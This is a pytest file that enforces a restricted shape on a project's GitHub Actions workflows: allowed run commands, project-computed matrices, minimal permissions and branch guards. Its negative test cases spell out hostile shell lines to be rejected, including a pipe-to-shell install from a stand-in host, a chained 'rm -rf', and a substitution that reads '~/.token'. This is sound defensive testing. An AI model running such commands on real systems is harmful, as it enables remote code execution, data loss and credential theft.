"""The workflows only call the project: every `run:` step is a setup step, an `invoke`/`nox` command or (backport.yml)
the download of its input and the git/gh commands of its pull request, and every matrix is the one `invoke matrix`
or `invoke lines` computes (never a list of flavours or lines typed into a workflow)."""

import re
from pathlib import Path
from string import Template

import pytest
import yaml

from ac_release.commands.ci_matrix import OUTPUT_NAME, ci_matrix
from ac_release.model.nox_sessions import session_name
from ac_release.pipeline.run import RELEASE
from tests.helpers import REPO

WORKFLOWS = sorted((REPO / ".github" / "workflows").glob("*.y*ml"))
CHECKOUT = re.compile(r"actions/checkout@[0-9a-f]{40}")

_VAR = r'"\$[A-Z][A-Z0-9_]*"'
SETUP_STEPS = [
    re.compile(r"\.ci/bootstrap"),
    re.compile(rf"echo {_VAR} \| docker login [a-z0-9.-]+(:[0-9]+)? --username {_VAR} --password-stdin"),
]
PROJECT_COMMAND = re.compile(r"\.venv/bin/(invoke|nox) .+")
# backport.yml's input: https only (redirects too), bounded in size and time, to a file named by the environment.
DOWNLOAD = re.compile(
    rf"curl --fail --silent --show-error --location --proto =https --proto-redir =https --max-filesize [0-9]+ "
    rf"--max-time [0-9]+ --output {_VAR} {_VAR}"
)
GIT_COMMAND = re.compile(r"(git|gh) [a-z-]+.*")  # a branch, a commit, a push, a pull request: one command a line
# The release workflow's first step: a dispatch from another branch fails with one line, before any secret is used.
BRANCH_GUARD_IF = "github.ref != format('refs/heads/{0}', github.event.repository.default_branch)"
# nightly.yml's: its scheduled runs are on the default branch, and their event names no repository.
DISPATCH_BRANCH_GUARD_IF = f"github.event_name == 'workflow_dispatch' && {BRANCH_GUARD_IF}"
BRANCH_GUARD_RUN = [re.compile(r'echo "::error::[^"`$]*(\$[A-Z_]+[^"`$]*)*"'), re.compile("exit 1")]
SHELL_CONTROL = re.compile(r"[;&|`<>]|\$\(")  # a second command, a pipe, a redirection or a substitution
MATRIX_FROM_JOB = re.compile(r"\$\{\{ fromJSON\(needs\.(?P<job>[\w-]+)\.outputs\.(?P<output>[\w-]+)\) \}\}")
STEP_OUTPUT = re.compile(r"\$\{\{ steps\.(?P<step>[\w-]+)\.outputs\.(?P<output>[\w-]+) \}\}")
MATRIX_COMMAND = re.compile(r"\.venv/bin/invoke (matrix \S+( --target \S+)?|lines) --github-output")


def load(path: Path) -> dict:
    return yaml.safe_load(path.read_text())


def run_step_problems(workflow: dict) -> list[str]:
    problems = []
    for job_id, job in workflow["jobs"].items():
        for step in job.get("steps", []):
            if "uses" in step and not CHECKOUT.fullmatch(step["uses"]):
                problems.append(f"{job_id}: {step['uses']!r} is not actions/checkout pinned by commit")
            lines = list(filter(None, map(str.strip, step.get("run", "").splitlines())))
            if step.get("if") in (BRANCH_GUARD_IF, DISPATCH_BRANCH_GUARD_IF) and len(lines) == 2:
                if all(pattern.fullmatch(line) for pattern, line in zip(BRANCH_GUARD_RUN, lines, strict=True)):
                    continue
            for line in lines:
                setup = any(pattern.fullmatch(line) for pattern in [*SETUP_STEPS, DOWNLOAD])
                project = PROJECT_COMMAND.fullmatch(line) and not SHELL_CONTROL.search(line)
                github = GIT_COMMAND.fullmatch(line) and not SHELL_CONTROL.search(line)
                if not (setup or project or github):
                    problems.append(f"{job_id}: {line!r} is neither a setup step nor a .venv/bin invoke/nox command")
    return problems


def matrix_problems(workflow: dict) -> list[str]:
    problems = []
    jobs = workflow["jobs"]
    for job_id, job in jobs.items():
        if "matrix" not in job.get("strategy", {}):
            continue
        match = MATRIX_FROM_JOB.fullmatch(str(job["strategy"]["matrix"]))
        if not match:
            problems.append(f"{job_id}: the matrix is not fromJSON of a job output: {job['strategy']['matrix']!r}")
            continue
        planner, output = match["job"], match["output"]
        needs = job.get("needs", [])
        if planner not in ([needs] if isinstance(needs, str) else needs) or planner not in jobs:
            problems.append(f"{job_id}: the matrix comes from {planner!r}, which is not among its needs")
            continue
        step_output = STEP_OUTPUT.fullmatch(str(jobs[planner].get("outputs", {}).get(output, "")))
        steps = [s for s in jobs[planner]["steps"] if step_output and s.get("id") == step_output["step"]]
        if not (
            output == OUTPUT_NAME == step_output["output"]
            and len(steps) == 1
            and MATRIX_COMMAND.fullmatch(steps[0]["run"])
        ):
            problems.append(f"{job_id}: {planner}.outputs.{output} is not the `invoke matrix` step's output")
    return problems


@pytest.mark.parametrize("path", WORKFLOWS, ids=lambda p: p.name)
def test_every_run_step_is_a_setup_step_or_a_project_command(path):
    assert run_step_problems(load(path)) == []


@pytest.mark.parametrize("path", WORKFLOWS, ids=lambda p: p.name)
def test_every_matrix_is_computed_by_invoke_matrix(path):
    assert matrix_problems(load(path)) == []


@pytest.mark.parametrize("path", WORKFLOWS, ids=lambda p: p.name)
def test_no_permission_by_default_and_each_job_names_its_own(path):
    workflow = load(path)
    assert workflow["permissions"] == {}
    assert [job_id for job_id, job in workflow["jobs"].items() if "permissions" not in job] == []


def test_the_ci_workflow_is_lint_unit_integration_then_smoke_per_flavour():
    workflow = load(REPO / ".github" / "workflows" / "ci.yml")
    jobs = workflow["jobs"]
    assert set(jobs) == {"lint", "unit", "integration", "plan", "smoke"}
    assert [s["run"] for s in jobs["lint"]["steps"] if "run" in s] == [".ci/bootstrap", ".venv/bin/nox -s lint"]
    assert [s["run"] for s in jobs["unit"]["steps"] if "run" in s] == [".ci/bootstrap", ".venv/bin/nox -s unit"]
    assert jobs["integration"]["steps"][-1]["run"] == ".venv/bin/nox -s integration"
    assert set(jobs["smoke"]["needs"]) >= {"plan", "lint", "unit"}
    # The plan selects each line's newest build, and each smoke job runs that very nox session.
    assert jobs["plan"]["steps"][-1]["run"] == ".venv/bin/invoke matrix newest --github-output"
    smoke = jobs["smoke"]["steps"][-1]
    for entry in ci_matrix(REPO, "newest")["include"]:
        assert smoke["env"] == {"VERSION": "${{ matrix.version }}", "FLAVOUR": "${{ matrix.flavour }}"}
        command = Template(smoke["run"]).substitute(VERSION=entry["version"], FLAVOUR=entry["flavour"])
        assert command == f'.venv/bin/nox -s "{session_name(entry["version"], entry["flavour"])}"'
    # Superseded pull-request runs are cancelled, pushes to main are not.
    assert workflow["concurrency"]["cancel-in-progress"] == "${{ github.event_name == 'pull_request' }}"
    assert "github.event.pull_request.number" in workflow["concurrency"]["group"]
    for job in jobs.values():
        (checkout,) = [s for s in job["steps"] if "uses" in s]
        assert checkout["with"]["persist-credentials"] is False


def test_the_end_to_end_tier_runs_daily_off_the_hour_and_on_pushes_to_main_that_touch_the_pipeline():
    workflow = load(REPO / ".github" / "workflows" / "e2e.yml")
    on = workflow[True]  # YAML 1.1 reads the key `on` as a boolean
    ((schedule,),) = [list(entry.values()) for entry in on["schedule"]]
    minute, hour, *every_day = schedule.split()
    assert (minute, hour, every_day) == ("17", "4", ["*", "*", "*"])  # daily, not at minute 0
    assert on["push"]["branches"] == ["main"]
    assert {"ac_release/**", "images/**", "wheel/**", "products/**", ".github/workflows/**"} <= set(on["push"]["paths"])
    assert "workflow_dispatch" in on
    (job,) = workflow["jobs"].values()
    assert [s["run"] for s in job["steps"] if "run" in s] == [".ci/bootstrap", ".venv/bin/nox -s e2e"]
    (checkout,) = [s for s in job["steps"] if "uses" in s]
    assert checkout["with"]["persist-credentials"] is False
    assert workflow["concurrency"]["cancel-in-progress"] is False


PLANNED = {
    "jobs": {
        "plan": {
            "outputs": {"matrix": "${{ steps.m.outputs.matrix }}"},
            "steps": [{"run": ".ci/bootstrap"}, {"id": "m", "run": ".venv/bin/invoke matrix newest --github-output"}],
        },
        "smoke": {"needs": ["plan"], "strategy": {"matrix": "${{ fromJSON(needs.plan.outputs.matrix) }}"}},
    }
}


def _with(smoke_strategy=None, plan_run=None, needs=None) -> dict:
    workflow = yaml.safe_load(yaml.safe_dump(PLANNED))
    if smoke_strategy is not None:
        workflow["jobs"]["smoke"]["strategy"]["matrix"] = smoke_strategy
    if plan_run is not None:
        workflow["jobs"]["plan"]["steps"][1]["run"] = plan_run
    if needs is not None:
        workflow["jobs"]["smoke"]["needs"] = needs
    return workflow


def test_the_matrix_check_accepts_the_planned_shape():
    assert matrix_problems(PLANNED) == []


@pytest.mark.parametrize(
    "workflow",
    [
        _with(smoke_strategy={"flavour": ["bullseye", "bookworm"]}),
        _with(smoke_strategy={"include": [{"version": "2.2.4-1", "flavour": "bullseye"}]}),
        _with(smoke_strategy='${{ fromJSON(\'{"include": [{"flavour": "bullseye"}]}\') }}'),
        _with(plan_run='echo \'matrix={"include": [{"flavour": "bullseye"}]}\' >> "$GITHUB_OUTPUT"'),
        _with(needs=[]),
    ],
    ids=["literal-list", "literal-include", "literal-json", "echoed-matrix", "not-needed"],
)
def test_the_matrix_check_refuses_a_matrix_not_computed_by_the_project(workflow):
    assert len(matrix_problems(workflow)) == 1


@pytest.mark.parametrize(
    "run",
    [
        "pip install -e .",
        "python -m pytest",
        ".venv/bin/invoke release 2.2.4-1; curl https://example.invalid",
        ".venv/bin/nox -s lint && rm -rf dist",
        '.venv/bin/invoke matrix newest > "$GITHUB_OUTPUT"',
        ".venv/bin/invoke release $(cat version)",
        "invoke release 2.2.4-1",
        'echo "$TOKEN" | docker login quay.io --username "$USER" --password "$TOKEN"',
        ".ci/bootstrap\ncurl -sSL https://example.invalid/install.sh | sh",
        'curl --fail --silent --show-error --location --output "$PATCH_FILE" "$PATCH_URL"',  # http too, unbounded
        "curl --fail --silent --show-error --location --proto =https --proto-redir =https --max-filesize 1048576 "
        '--max-time 60 --output "$PATCH_FILE" "$PATCH_URL" | sh',
        'git push origin "$BRANCH" && curl https://example.invalid',
        'gh pr create --title "$(cat title)"',
    ],
)
def test_the_run_step_check_refuses_anything_else(run):
    workflow = {"jobs": {"job": {"steps": [{"run": run}]}}}
    assert len(run_step_problems(workflow)) == 1


def test_the_run_step_check_refuses_other_actions():
    workflow = {"jobs": {"job": {"steps": [{"uses": "actions/checkout@v4"}, {"uses": "actions/cache@" + "0" * 40}]}}}
    assert len(run_step_problems(workflow)) == 2


def test_the_release_workflow_is_plan_wheel_images_per_flavour_and_platform_index_promote_release():
    workflow = load(REPO / ".github" / "workflows" / "release.yml")
    jobs = workflow["jobs"]
    assert list(jobs) == ["plan", "wheel", "images", "index", "promote", "release"]
    assert [jobs[j].get("needs") for j in jobs] == [
        None,
        "plan",
        ["plan", "wheel"],
        ["plan", "images"],
        ["plan", "index"],
        "promote",
    ]
    # the least each job needs: only wheel, images and index sign (the wheels; the pushed platform digests; the
    # indexes), only release writes
    assert {j: job["permissions"] for j, job in jobs.items()} == {
        "plan": {"contents": "read"},
        "wheel": {"contents": "read", "id-token": "write"},
        "images": {"contents": "read", "id-token": "write"},
        "index": {"contents": "read", "id-token": "write"},
        "promote": {"contents": "read"},
        "release": {"contents": "write"},
    }
    for job_id, job in jobs.items():
        assert job["environment"] == "${{ inputs.target }}", job_id  # production's secrets behind its environment
        (checkout,) = [step for step in job["steps"] if "uses" in step]
        assert checkout["with"]["persist-credentials"] is False, job_id  # no job's token stays in .git/config
    # a dispatch from another branch is refused first, before the checkout and any step that sees a secret
    guard = jobs["plan"]["steps"][0]
    assert guard["if"] == BRANCH_GUARD_IF and "secrets." not in str(guard)
    assert workflow["concurrency"] == {
        "group": "release-${{ inputs.target }}-${{ inputs.version }}",
        "cancel-in-progress": False,
    }
    # the releases moving one product line's floating tags promote one at a time, whichever versions they are
    assert jobs["promote"]["concurrency"] == {
        "group": "promote-${{ inputs.target }}-${{ needs.plan.outputs.floating_group }}",
        "cancel-in-progress": False,
    }
    assert jobs["plan"]["outputs"]["floating_group"] == "${{ steps.matrix.outputs.floating_group }}"
    # the tag push's token: in the tag step's environment only, for git's credential helper
    tagging = [step for step in jobs["release"]["steps"] if "PUSH_TOKEN" in step.get("env", {})]
    assert [step["run"] for step in tagging] == ['.venv/bin/invoke release "$VERSION" --target "$TARGET" --stages tag']
    assert tagging[0]["env"]["GIT_CONFIG_KEY_0"] == "credential.https://github.com.helper"
    # each job runs its part of the one pipeline; the images job one flavour and platform of the computed matrix
    commands = {j: [line for s in job["steps"] for line in s.get("run", "").splitlines() if "invoke" in line]
                for j, job in jobs.items()}  # fmt: skip
    assert commands == {
        "plan": [
            '.venv/bin/invoke release "$VERSION" --target "$TARGET" --dry-run',
            '.venv/bin/invoke matrix "$VERSION" --target "$TARGET" --github-output',
        ],
        "wheel": ['.venv/bin/invoke release "$VERSION" --target "$TARGET" --stages wheel,sign,publish'],
        "images": [
            '.venv/bin/invoke release "$VERSION" --target "$TARGET" --flavour "$FLAVOUR" --platform "$PLATFORM" '
            "--stages images,test,push,attest"
        ],
        "index": ['.venv/bin/invoke release "$VERSION" --target "$TARGET" --stages index'],
        "promote": ['.venv/bin/invoke release "$VERSION" --target "$TARGET" --stages promote'],
        "release": [
            '.venv/bin/invoke verify "$VERSION" --target "$TARGET"',
            '.venv/bin/invoke release "$VERSION" --target "$TARGET" --stages tag',
            '.venv/bin/invoke github-release "$VERSION" --target "$TARGET"',
        ],
    }
    stages = [name for job in commands.values() for line in job for name in _stages_of(line)]
    assert stages == [name for name in RELEASE if name != "preflight"]  # every stage once, in pipeline order


def test_the_release_images_jobs_run_per_platform_on_its_architecture_and_the_index_job_joins_them():
    jobs = load(REPO / ".github" / "workflows" / "release.yml")["jobs"]
    images, index = jobs["images"], jobs["index"]
    # every row of the images matrix names a platform, and the job takes it to the runner, its name and --platform
    rows = ci_matrix(REPO, "2.2.4-1")["include"]
    assert rows and all(set(row) == {"version", "flavour", "platform"} for row in rows)
    assert {row["platform"] for row in rows} == {"linux/amd64", "linux/arm64"}  # images/matrix.toml's line 2.2.4
    assert "${{ matrix.platform }}" in images["name"]
    (build,) = [step for step in images["steps"] if "--stages images" in step.get("run", "")]
    assert build["env"]["PLATFORM"] == "${{ matrix.platform }}"
    assert images["runs-on"] == "${{ matrix.platform == 'linux/arm64' && 'ubuntu-24.04-arm' || 'ubuntu-24.04' }}"
    # the index job runs once (no matrix) after every images job, and promote moves floating tags to its indexes
    assert "strategy" not in index
    assert index["needs"] == ["plan", "images"] and "images" not in jobs["promote"]["needs"]
    assert "index" in jobs["promote"]["needs"]
    # it reads the platform tags the images jobs pushed from the same registries, with the same logins and secrets
    login = [step for step in images["steps"] if "docker login" in step.get("run", "")]
    assert [step for step in index["steps"] if "docker login" in step.get("run", "")] == login
    (assemble,) = [step for step in index["steps"] if "--stages index" in step.get("run", "")]
    secrets = {name: value for name, value in build["env"].items() if "secrets." in value}
    assert {name: value for name, value in assemble["env"].items() if "secrets." in value} == secrets


def _stages_of(line: str) -> list[str]:
    match = re.search(r"--stages (\S+)", line)
    return match[1].split(",") if match else []


@pytest.mark.parametrize(
    "run",
    ['echo "::error::not from $GITHUB_REF"; curl https://example.invalid', 'echo "::error::$(cat ~/.token)"'],
)
def test_the_branch_guard_allows_one_error_line_and_exit_only(run):
    workflow = {"jobs": {"job": {"steps": [{"if": BRANCH_GUARD_IF, "run": f"{run}\nexit 1"}]}}}
    assert run_step_problems(workflow)
